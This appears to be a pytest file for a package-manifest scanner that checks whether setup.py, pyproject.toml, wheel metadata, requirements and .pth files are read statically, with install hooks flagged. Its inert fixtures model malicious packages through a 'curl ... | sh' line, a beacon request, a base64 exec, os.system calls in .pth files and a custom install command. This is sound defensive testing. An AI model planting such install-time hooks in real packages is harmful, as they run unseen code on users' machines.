"""PyPI manifest facts from inert packages written here: setup.py is only parsed, never run."""

from __future__ import annotations

from pathlib import Path

from malgraph.analysis.manifests import ManifestScan, read_manifests
from malgraph.artifacts.archives import Member
from malgraph.core.code import Dependency, InstallHook, Manifest


def scan(files: dict[str, str]) -> ManifestScan:
    return read_manifests([Member(path, text.encode()) for path, text in files.items()])


def table(result: ManifestScan) -> set[tuple[str, str, str, str, int | None]]:
    return {(d.kind, d.name, d.spec, d.file, d.line) for d in result.dependencies}


SETUP_PY = """\
import os
import subprocess
from setuptools import setup, find_packages
from setuptools.command.install import install

BASE = ["requests>=2.0", "colorama"]
here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md")) as f:
    long_description = f.read()
with open("requirements.txt") as f:
    from_file = f.read().splitlines()

os.system('touch /tmp/marker')


class CustomInstall(install):
    def run(self):
        subprocess.Popen(["sh", "-c", "echo pwned"])
        install.run(self)


try:
    import requests
    requests.get("http://127.0.0.1:9/beacon")
except Exception:
    pass

if __name__ == "__main__":
    setup(
        name="evil-sdist",
        version="0.1",
        description="harmless looking",
        long_description=long_description,
        packages=find_packages(),
        install_requires=BASE + ["pycryptodome==3.9.0; python_version >= '3'"],
        setup_requires=open("requirements-build.txt").read().splitlines(),
        tests_require=["pytest"],
        extras_require={"dev": ["black"], "win:sys_platform == 'win32'": from_file},
        cmdclass={"install": CustomInstall},
    )
"""


def test_setup_py_is_read_without_running_it() -> None:
    result = scan(
        {
            "evil-sdist-0.1/setup.py": SETUP_PY,
            "evil-sdist-0.1/requirements.txt": "# runtime\nurllib3<2 # pinned\n\n-r other.txt\n",
            "evil-sdist-0.1/requirements-build.txt": "wheel\n--index-url https://example.invalid\n",
            "evil-sdist-0.1/README.md": "readme",
        }
    )
    path, reqs = "evil-sdist-0.1/setup.py", "evil-sdist-0.1/requirements.txt"
    build = "evil-sdist-0.1/requirements-build.txt"
    assert result.manifests == (Manifest("PyPI", path, "evil-sdist", "0.1", "harmless looking"),)
    assert table(result) == {
        ("install_requires", "requests", ">=2.0", path, 6),
        ("install_requires", "colorama", "", path, 6),
        ("install_requires", "pycryptodome", '==3.9.0; python_version >= "3"', path, 35),
        ("setup_requires", "wheel", "", build, 1),
        ("tests_require", "pytest", "", path, 37),
        ("extras_require", "black", '; extra == "dev"', path, 38),
        # From the requirements file named in the `with` around the assignment.
        (
            "extras_require",
            "urllib3",
            "<2; (sys_platform == 'win32') and extra == \"win\"",
            reqs,
            2,
        ),
        # requirements*.txt files are dependencies on their own too.
        ("requirements", "urllib3", "<2", reqs, 2),
        ("requirements", "wheel", "", build, 1),
    }
    assert result.install_hooks == (
        InstallHook("cmdclass", "install=CustomInstall", path, 16),
        InstallHook("setup-code", "os.system('touch /tmp/marker')", path, 13),
        InstallHook("setup-code", 'requests.get("http://127.0.0.1:9/beacon")', path, 24),
    )
    assert result.problems == ()


def test_common_honest_setup_py_has_no_setup_code() -> None:
    honest = """\
import io, re, sys
from os import path
from setuptools import setup

here = path.abspath(path.dirname(__file__))
if sys.version_info < (3, 7):
    sys.exit("Python 3.7+ required")


def read(*parts):
    with io.open(path.join(here, *parts), encoding="utf-8") as handle:
        return handle.read()


VERSION = re.search(r'__version__ = "(.+)"', read("pkg", "__init__.py")).group(1)
setup(name="honest", version=VERSION, long_description=read("README.rst"))
"""
    result = scan({"honest-1.0/setup.py": honest})
    assert result.install_hooks == ()
    assert result.manifests[0].name == "honest"
    assert result.manifests[0].version is None  # computed, so unknown
    assert result.problems == ()


def test_setup_code_catches_calls_hidden_behind_aliases_and_local_functions() -> None:
    sneaky = """\
from os import system as run
import base64
import setuptools


def payload():
    exec(base64.b64decode("cHJpbnQoJ2hpJyk="))


VERSION = payload()
run("id")
setuptools.setup(name="sneaky", **{"version": "2.0", "install_requires": ["six"]})
"""
    result = scan({"setup.py": sneaky})
    assert [(h.kind, h.detail, h.line) for h in result.install_hooks] == [
        ("setup-code", "VERSION = payload()", 10),
        ("setup-code", 'run("id")', 11),
    ]
    assert result.manifests == (Manifest("PyPI", "setup.py", "sneaky", "2.0", None),)
    assert table(result) == {("install_requires", "six", "", "setup.py", 12)}


def test_unresolvable_values_are_problems() -> None:
    text = """\
from setuptools import setup
setup(name="x", install_requires=compute(), extras_require=make_extras(), cmdclass=get_cmds())
"""
    result = scan({"setup.py": text})
    assert result.dependencies == ()
    assert result.problems == (
        "setup.py: line 2: 'install_requires' is not a literal",
        "setup.py: line 2: 'extras_require' is not a literal",
    )
    # Custom commands we cannot see are still install hooks.
    assert result.install_hooks == (InstallHook("cmdclass", "get_cmds()", "setup.py", 2),)


def test_python2_setup_py_falls_back_to_regexes() -> None:
    text = """\
import os
from distutils.core import setup
print "installing"
os.system("curl http://127.0.0.1:9/x | sh")
setup(name='old-pkg',
      version='0.9',
      install_requires=['simplejson>=2.0',
                        'httplib2'])
"""
    result = scan({"old-pkg-0.9/setup.py": text})
    path = "old-pkg-0.9/setup.py"
    assert len(result.problems) == 1
    assert result.problems[0].startswith(f"{path}: not Python 3 syntax (")
    assert "line 3" in result.problems[0]
    assert result.manifests == (Manifest("PyPI", path, "old-pkg", "0.9", None),)
    assert table(result) == {
        ("install_requires", "simplejson", ">=2.0", path, 7),
        ("install_requires", "httplib2", "", path, 8),
    }
    assert result.install_hooks == (
        InstallHook("setup-code", 'os.system("curl http://127.0.0.1:9/x | sh")', path, 4),
    )


def test_setup_cfg() -> None:
    text = """\
[metadata]
name = cfg-pkg
version = attr: cfg_pkg.__version__
description = A package

[options]
packages = find:
install_requires =
    requests>=2
    importlib-metadata; python_version<"3.8"
setup_requires = setuptools_scm

[options.extras_require]
Test =
    pytest>=7

[flake8]
max-line-length = 100
"""
    result = scan({"cfg-pkg-1.0/setup.cfg": text})
    path = "cfg-pkg-1.0/setup.cfg"
    assert result.manifests == (Manifest("PyPI", path, "cfg-pkg", None, "A package"),)
    assert table(result) == {
        ("install_requires", "requests", ">=2", path, 9),
        ("install_requires", "importlib-metadata", '; python_version < "3.8"', path, 10),
        ("setup_requires", "setuptools_scm", "", path, 11),
        ("extras_require", "pytest", '>=7; extra == "Test"', path, 15),
    }
    assert scan({"setup.cfg": "[flake8]\nx = 1\n"}).manifests == ()
    broken = scan({"setup.cfg": "no section header\n"})
    assert broken.problems[0].startswith("setup.cfg: invalid setup.cfg: ")


def test_pyproject_pep621_and_poetry() -> None:
    pep621 = """\
[build-system]
requires = ["hatchling>=1.0", "evil-build-helper"]
build-backend = "hatchling.build"

[project]
name = "modern"
version = "3.1"
description = "PEP 621"
dependencies = [
    "httpx>=0.27",
    'rich',
]

[project.optional-dependencies]
cli = ["typer"]
"""
    result = scan({"modern-3.1/pyproject.toml": pep621})
    path = "modern-3.1/pyproject.toml"
    assert result.manifests == (Manifest("PyPI", path, "modern", "3.1", "PEP 621"),)
    assert table(result) == {
        ("dependencies", "httpx", ">=0.27", path, 10),
        ("dependencies", "rich", "", path, 11),
        ("extras_require", "typer", '; extra == "cli"', path, 15),
        ("build-system", "hatchling", ">=1.0", path, 2),
        ("build-system", "evil-build-helper", "", path, 2),
    }

    poetry = """\
[tool.poetry]
name = "poem"
version = "0.2.0"
description = "Poetry"

[tool.poetry.dependencies]
python = "^3.9"
requests = "^2.31"
"discord.py" = { version = "2.3", optional = true }
stealer = { git = "https://example.invalid/stealer.git" }
"""
    result = scan({"pyproject.toml": poetry})
    assert result.manifests == (Manifest("PyPI", "pyproject.toml", "poem", "0.2.0", "Poetry"),)
    assert table(result) == {
        ("dependencies", "requests", "^2.31", "pyproject.toml", 8),
        ("dependencies", "discord.py", "2.3", "pyproject.toml", 9),
        ("dependencies", "stealer", "https://example.invalid/stealer.git", "pyproject.toml", 10),
    }
    broken = scan({"pyproject.toml": "[project\nname = 1"})
    assert broken.manifests == ()
    assert broken.problems[0].startswith("pyproject.toml: invalid TOML: ")


def test_wheel_metadata_with_markers_and_a_bad_requirement() -> None:
    metadata = """\
Metadata-Version: 2.1
Name: wheelpkg
Version: 1.2.3
Summary: A wheel
 that wraps
Requires-Dist: cryptography (>=3.0)
Requires-Dist: pywin32 ; sys_platform == "win32"
Requires-Dist: pytest ; extra == 'test'
Requires-Dist: bad req !!

Requires-Dist: not-a-header-this-is-the-description
"""
    result = scan(
        {
            "wheelpkg-1.2.3.dist-info/METADATA": metadata,
            "wheelpkg-1.2.3.dist-info/RECORD": "",
            "wheelpkg/__init__.py": "",
        }
    )
    path = "wheelpkg-1.2.3.dist-info/METADATA"
    assert result.manifests == (Manifest("PyPI", path, "wheelpkg", "1.2.3", "A wheel that wraps"),)
    assert table(result) == {
        ("install_requires", "cryptography", ">=3.0", path, 6),
        ("install_requires", "pywin32", '; sys_platform == "win32"', path, 7),
        ("install_requires", "pytest", '; extra == "test"', path, 8),
        ("install_requires", "bad", "req !!", path, 9),
    }
    assert result.problems == (f"{path}: line 9: unparsable requirement 'bad req !!'",)


def test_pkg_info_of_an_sdist_and_only_the_shallowest_copy() -> None:
    result = scan(
        {
            "p-1.0/PKG-INFO": "Metadata-Version: 1.0\nName: p\nVersion: 1.0\nSummary: S\n",
            "p-1.0/p.egg-info/PKG-INFO": "Name: p\nVersion: 1.0\n",
            "p-1.0/tests/fixture/setup.py": "import os\nos.system('x')\n",
        }
    )
    assert result.manifests == (Manifest("PyPI", "p-1.0/PKG-INFO", "p", "1.0", "S"),)
    assert result.install_hooks == ()


def test_requirements_files_anywhere_with_urls_and_options() -> None:
    text = """\
--index-url https://example.invalid/simple
-e .
-e git+https://example.invalid/org/tool.git#egg=tool
flask==3.0 --hash=sha256:abc \\
    --hash=sha256:def
https://example.invalid/pkgs/payload-1.0-py3-none-any.whl
name-at-url @ https://example.invalid/x.tar.gz
./vendor/local-0.1.tar.gz
https://example.invalid/dl/two-part-name-2.0.tar.gz#sha256=00
"""
    result = scan({"src/requirements/dev.txt": text, "docs/requirements-docs.txt": "sphinx\n"})
    path = "src/requirements/dev.txt"
    assert table(result) == {
        ("requirements", "tool", "git+https://example.invalid/org/tool.git#egg=tool", path, 3),
        ("requirements", "flask", "==3.0", path, 4),
        (
            "requirements",
            "payload",
            "https://example.invalid/pkgs/payload-1.0-py3-none-any.whl",
            path,
            6,
        ),
        ("requirements", "name-at-url", "https://example.invalid/x.tar.gz", path, 7),
        ("requirements", "local", "./vendor/local-0.1.tar.gz", path, 8),
        (
            "requirements",
            "two-part-name",
            "https://example.invalid/dl/two-part-name-2.0.tar.gz#sha256=00",
            path,
            9,
        ),
        ("requirements", "sphinx", "", "docs/requirements-docs.txt", 1),
    }
    assert result.problems == ()


def test_pth_files_with_import_lines_run_at_interpreter_start() -> None:
    result = scan(
        {
            "evil-1.0.data/purelib/zzz_evil.pth": "./some/dir\nimport os; os.system('id')\n",
            "evil/__init__.py": "",
        }
    )
    assert result.install_hooks == (
        InstallHook("pth", "import os; os.system('id')", "evil-1.0.data/purelib/zzz_evil.pth", 2),
    )


def test_dependency_records_are_plain_values() -> None:
    result = scan({"requirements.txt": "six\n"})
    assert result.dependencies == (
        Dependency("PyPI", "six", "", "requirements", "requirements.txt", 1),
    )


def test_setup_arguments_calling_a_local_function_that_acts_are_setup_code() -> None:
    text = """\
import os
from setuptools import setup


def requirements():
    os.system("curl http://127.0.0.1:9/x | sh")
    return ["six"]


setup(name="x", install_requires=requirements(), version=imported_helper())
"""
    result = scan({"setup.py": text})
    # The local function's body is visible and acts; an imported helper is not judged.
    assert result.install_hooks == (
        InstallHook(
            "setup-code",
            'setup(name="x", install_requires=requirements(), version=imported_helper())',
            "setup.py",
            10,
        ),
    )


def test_hostile_python_manifests_are_problems_not_crashes() -> None:
    cases = {
        "setup.py": "x = " + "1+" * 200_000 + "1\n",  # deeper than the parser allows
        "a/setup.py": "import os\x00\n",
        "b/setup.py": "from setuptools import setup\na = a + a\nk = dict(**k)\n"
        "setup(install_requires=a, **k)\n",
        "pyproject.toml": "a = " + "[" * 3000 + "]" * 3000,
    }
    problems = [scan({path: text}).problems for path, text in cases.items()]
    assert problems[0][0].startswith("setup.py: cannot be parsed (")
    assert len(problems[1]) == 1
    assert "null bytes" in problems[1][0]  # a SyntaxError or a ValueError, by Python version
    assert problems[2] == ("b/setup.py: line 4: 'install_requires' is not a literal",)
    assert problems[3][0].startswith("pyproject.toml: invalid TOML: ")
    # One flooding file gives at most 20 problems and a count of the rest.
    flood = scan({"requirements.txt": "\n".join(f"!bad {i}" for i in range(100))}).problems
    assert len(flood) == 21
    assert flood[-1] == "requirements.txt: 80 more problems not listed"


def test_scanning_never_runs_the_code(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    text = f"import os\nos.system('touch {marker}')\nopen('{marker}', 'w')\n"
    result = scan({"setup.py": text, "x.pth": f"import os; os.system('touch {marker}')\n"})
    assert [h.kind for h in result.install_hooks] == ["setup-code", "setup-code", "pth"]
    assert not marker.exists()


def test_setup_cfg_reads_requirements_from_a_file() -> None:
    result = scan(
        {
            "p/setup.cfg": "[metadata]\nname = p\n[options]\ninstall_requires = file: deps.in\n",
            "p/deps.in": "# pinned\nattrs==23.1\n",
        }
    )
    assert table(result) == {("install_requires", "attrs", "==23.1", "p/deps.in", 2)}
